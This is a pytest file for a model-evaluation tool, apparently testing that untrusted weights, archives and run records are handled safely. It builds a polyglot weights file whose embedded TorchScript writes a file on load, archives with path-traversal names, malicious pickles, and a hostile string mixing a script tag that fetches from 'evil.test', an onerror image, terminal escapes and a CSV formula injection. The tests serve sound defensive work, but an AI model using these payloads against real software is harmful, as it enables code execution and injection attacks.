"""Files from somebody else, weights, archives and records: they run nothing, and a page only displays them."""

import csv
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest
import torch

from conftest import Malicious
from sparring.compare import page
from sparring.compare.records import find
from sparring.compare.tables import side_by_side
from sparring.config import redaction
from sparring.config.errors import UserError
from sparring.data.celeba import CelebA
from sparring.data.cifar10 import CIFAR10
from sparring.evaluation.extractors.clip import CLIP
from sparring.evaluation.extractors.inception import Inception
from sparring.evaluation.extractors.torch_fidelity import TorchFidelity
from sparring.evaluation.extractors.vgg16 import VGG16
from sparring.runs import store
from sparring.storage import tensor_files

# ---- records --------

ENTRY = {"iteration": 1, "kimg": 1.0, "scores": {}, "protocol": {}}
RECORDS = {
    "versions.json": [{"packages": "abc"}, {"packages": [1]}, {"run": 5}],
    "status.json": [{"seconds": "x"}, {"kimg": []}, {"checkpoint": 5}],
    "scores.json": [
        [ENTRY | change]
        for change in (
            {"iteration": "x"},
            {"scores": 5},
            {"scores": {"fd": "x"}},
            {"lower_is_better": 5},
            {"protocol": []},
        )
    ],
}
RECORDS["scores.json"] += [[{"scores": {}, "protocol": {}, "kimg": 1.0}], [ENTRY | {"protocol": {"extractor": "x"}}]]


@pytest.mark.parametrize("name", RECORDS)
def test_a_record_of_other_kinds_than_ours_is_refused_with_what_is_wrong(name, tmp_path):
    for content in RECORDS[name]:
        (tmp_path / name).write_text(json.dumps(content))
        with pytest.raises(UserError, match=rf"{tmp_path / name} is damaged \(\S+: .*move it away"):
            store.prepare_resume(tmp_path, 1)
        assert json.loads((tmp_path / name).read_text()) == content
    assert name != "status.json" or "is damaged" in store.read_status(tmp_path)["error"]


# ---- weights ----------------------------------------------------------------------------------------------------


class Program(torch.nn.Module):
    """Which writes a file when it is loaded."""

    def __init__(self, path: str):
        super().__init__()
        self.path, self.weight = path, torch.nn.Parameter(torch.zeros(1))

    def forward(self, x):
        return x

    @torch.jit.export
    def __getstate__(self):
        return self.weight, self.path, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]):
        self.weight, self.path, self.training = state[0], state[1], state[2]
        torch.save(torch.zeros(1), self.path)


@pytest.fixture
def two_in_one(tmp_path) -> Path:
    """Tensors to who looks at the first bytes, a program to who looks at the last ones."""
    program, path = io.BytesIO(), tmp_path / "both.pt"
    torch.jit.save(torch.jit.script(Program(str(tmp_path / "it ran"))), program)
    torch.save({"weight": torch.zeros(1)}, path, _use_new_zipfile_serialization=False)
    with zipfile.ZipFile(program) as inner, zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as outer:
        for member in inner.infolist():
            outer.writestr(member.filename, inner.read(member.filename))
    return path


def test_a_file_that_is_two_in_one_is_read_as_neither_and_runs_nothing(two_in_one, tmp_path):
    torch.jit.load(str(two_in_one))
    assert (tmp_path / "it ran").exists()  # so it would
    (tmp_path / "it ran").unlink()
    with pytest.raises(UserError, match="begins as a file of one kind, and ends as one of another"):
        tensor_files.read(two_in_one)
    for extractor in (Inception, VGG16, CLIP):
        with pytest.raises(UserError, match="evaluation.weights"):
            extractor(weights=str(two_in_one))
    assert not (tmp_path / "it ran").exists()


def test_whatever_is_called_clip_must_be_openais_file(tmp_path):
    """A class of somebody whom the person trusts may name it so."""

    class Mine(TorchFidelity):
        name = source = "mine"
        network_name, layers = "clip-vit-b-32", ["clip"]

        def __init__(self, weights):
            super().__init__(weights)

    torch.jit.save(torch.jit.script(Program(str(tmp_path / "it ran"))), str(tmp_path / "w.pt"))
    with pytest.raises(UserError, match="is not OpenAI's file"):
        Mine(str(tmp_path / "w.pt"))
    assert not (tmp_path / "it ran").exists()


# ---- downloads --------------------------------------------------------------------------------------------------


def test_archives_and_pickles_that_were_placed_by_hand_run_nothing_and_write_nothing_elsewhere(tmp_path, monkeypatch):
    for name in ("http_proxy", "https_proxy"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")
    faces, small = tmp_path / "a" / "celeba", tmp_path / "b" / "c"
    for place in (faces, small / "cifar-10-batches-py"):
        place.mkdir(parents=True)
    with zipfile.ZipFile(faces / "img_align_celeba.zip", "w") as archive:
        for name in ("../../outside.jpg", "/" + str(tmp_path / "outside.jpg"), "img_align_celeba/../../../outside.jpg"):
            archive.writestr(name, b"x")
    with pytest.raises(UserError):
        CelebA(str(faces.parent)).prepare()
    with tarfile.open(small / "cifar-10-python.tar.gz", "w:gz") as archive:
        (member := tarfile.TarInfo("../../outside.jpg")).size = 1
        archive.addfile(member, io.BytesIO(b"x"))
    for number in range(1, 6):
        torch.save(Malicious(tmp_path / "it ran"), small / "cifar-10-batches-py" / f"data_batch_{number}")
    source = CIFAR10(str(small))
    for use in (source.prepare, source.load):
        with pytest.raises((UserError, RuntimeError)):
            use()
    assert (
        not list(tmp_path.glob("outside*"))
        and not list(tmp_path.glob("a/outside*"))
        and not (tmp_path / "it ran").exists()
    )


# ---- what is shown ----------------------------------------------------------------------------------------------

HOSTILE = "<script>fetch('http://evil.test')</script>\"'|![x](http://evil.test/x.png)\x1b[2J\u202e\n=1+1"


@pytest.fixture
def shown(tmp_path):
    """Two runs of a stranger, who wrote this wherever something can be written."""
    for number in range(2):
        folder = tmp_path / f"<img src=x onerror=alert({number})>"
        (folder / "samples").mkdir(parents=True)
        config = {"seed": number, HOSTILE: HOSTILE, "model": {"_x": [HOSTILE, number]}}
        protocol = {"extractor": HOSTILE, "samples": 9, "reals": 9, "reals_available": 9, "real_images": HOSTILE}
        protocol |= {"fakes": HOSTILE, "metrics": {HOSTILE: {HOSTILE: number}}}
        entry = {
            "kimg": 1.0,
            "iteration": 1,
            "scores": {HOSTILE: 1.0, "fd": number},
            "protocol": protocol,
            "lower_is_better": [HOSTILE],
        }
        files = {"config.yaml": config, "overrides.yaml": [HOSTILE, f"=a={number}"], "scores.json": [entry]}
        files["status.json"] = {"state": HOSTILE, "kimg": 1.0, "error": HOSTILE, "device": f"@{HOSTILE}"}
        for name, content in files.items():
            (folder / name).write_text(json.dumps(content))
        (folder / "metrics.csv").write_text('iteration,kimg,"<b>x"\n1,1,2\n2,2,3\n')
        (folder / "samples" / "kimg-1.png").write_bytes(b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n")
    return find(str(tmp_path))


def test_the_page_and_the_tables_show_a_strangers_words_and_obey_none(shown, tmp_path):
    path, table = page.write(shown, tmp_path / "out")
    text = path.read_text()
    assert "<script" not in text and "<img src=x" not in text and "<b>x" not in text and "&lt;script&gt;" in text
    assert "default-src &#39;none&#39;" in text or "default-src 'none'" in text
    for told in (table.markdown(), path.with_suffix(".md").read_text(), table.csv()):
        assert not redaction.CONTROL.search(told.replace("\n", ""))
    for told in (table.markdown(), path.with_suffix(".md").read_text()):
        assert "<" not in told and "](http" not in told
        rows = [line for line in told.splitlines() if line.startswith("|")]
        assert len({line.count("|") for line in rows}) == 1
    cells = [cell for row in csv.reader(io.StringIO(side_by_side(shown).csv())) for cell in row]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
